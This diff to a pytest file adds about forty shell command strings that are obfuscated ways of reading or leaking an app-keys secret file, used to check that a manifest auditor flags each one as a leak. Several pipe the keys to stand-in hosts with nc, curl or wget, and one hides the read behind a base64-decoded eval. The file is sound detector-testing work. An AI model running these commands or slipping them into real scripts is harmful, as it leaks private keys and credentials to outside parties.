@@ -51,6 +51,51 @@ LEAKS = (
     f"$'\\x63at' {KEYS}",
     f"cat \\\n  {KEYS}",
 )
+MORE_LEAKS = (
+    f"mapfile -t A < {KEYS}; printf '%s' \"${{A[@]}}\"",
+    f'while IFS= read -r x; do logger "$x"; done < <(cat {KEYS})',
+    f"read -r -d '' V < {KEYS}; echo \"$V\" | nc h 1",
+    f'V=$(<{KEYS}); curl --data-binary @- https://x <<< "$V"',
+    f'A=({KEYS} /x); cat "${{A[0]}}"',
+    f"declare -A m; m[k]={KEYS}; cat ${{m[k]}}",
+    "p=/dstack; q=$p/.host-shared; r=${q}/.appkeys.json; dd if=$r of=/dev/console",
+    f"trap 'cat {KEYS}' EXIT",
+    f"(sleep 5; cat {KEYS} >/dev/console) &",
+    f"nohup sh -c 'cat {KEYS} > /dev/console' &",
+    "find /dstack -name '.appkeys*' -exec cat {} \\;",
+    "ls /dstack/.host-shared/.app* | xargs cat",
+    f"xargs cat <<< {KEYS}",
+    f"ln -s {KEYS} /tmp/k; cat /tmp/k",
+    "mount --bind /dstack/.host-shared /mnt; cat /mnt/.appkeys.json",
+    "tar -C /dstack -c .host-shared | nc h 1",
+    "cp -r /dstack /tmp/d; tar c /tmp/d | nc h 1",
+    "cat /dstack/.host-shared/.app[k]eys.json",
+    "cat /dstack/.host-shared/.appkey?.json",
+    f"set -x; K=$(jq -r .k256_key {KEYS})",
+    f"bash -x -c 'X=$(cat {KEYS})'",
+    f"exec 1>/dev/console; cat {KEYS}",
+    f"{{ cat {KEYS}; }} 2>/dev/null",
+    f"cat {KEYS} 1>&2",
+    f"echo $(< {KEYS})",
+    f"python3 - <<'EOF'\nimport sys\nprint(open('{KEYS}').read())\nEOF",
+    f"systemd-run sh -c 'cat {KEYS} > /dev/kmsg'",
+    f"F={KEYS}\nfunction show() {{ local f=$1; cat $f; }}\nshow $F",
+    f"g() {{ echo {KEYS}; }}\ncat $(g)",
+    f"docker run -v {KEYS}:/k alpine cat /k",
+    f"tail -f {KEYS} > /dev/ttyS0 &",
+    f"a=cat; b={KEYS}; c='/dev/console'; $a $b > $c",
+    'eval "$(echo Y2F0IC9kc3RhY2svLmhvc3Qtc2hhcmVkLy5hcHBrZXlzLmpzb24= | base64 -d)"',
+    f"sh <(echo cat {KEYS})",
+    f". /dev/stdin <<< 'cat {KEYS}'",
+    f"cat <<< $(cat {KEYS})",
+    f"wget -O- http://x/$(base64 -w0 {KEYS})",
+    f'dstack-util notify-host -e k -d "$(cat {KEYS})"',
+    "cat /dstack/.host-shared/.decrypted-env",
+    f"openssl enc -in {KEYS} | curl -F f=@- http://x",
+    "cat /run/../dstack/.host-shared/.appkeys.json",
+    "cd /dstack; cat .host-shared/.appkeys.json",
+    "cat /var/volatile/dstack/.host-shared/.appkeys.json",
+)
 HONEST = (
     f"export K=$(cat {KEYS} | jq -r .k256_key)",
     f"K=$(cat {KEYS} | base64)",
@@ -69,7 +114,7 @@ def rules(text: str) -> set[str]:
     return {finding.rule for finding in audit_manifest(script(text).raw).findings}
 
 
-@pytest.mark.parametrize("text", LEAKS)
+@pytest.mark.parametrize("text", [*LEAKS, *MORE_LEAKS])
 def test_a_leak_is_found_however_it_is_written(text: str) -> None:
     assert "PLS-006" in rules(text)
 
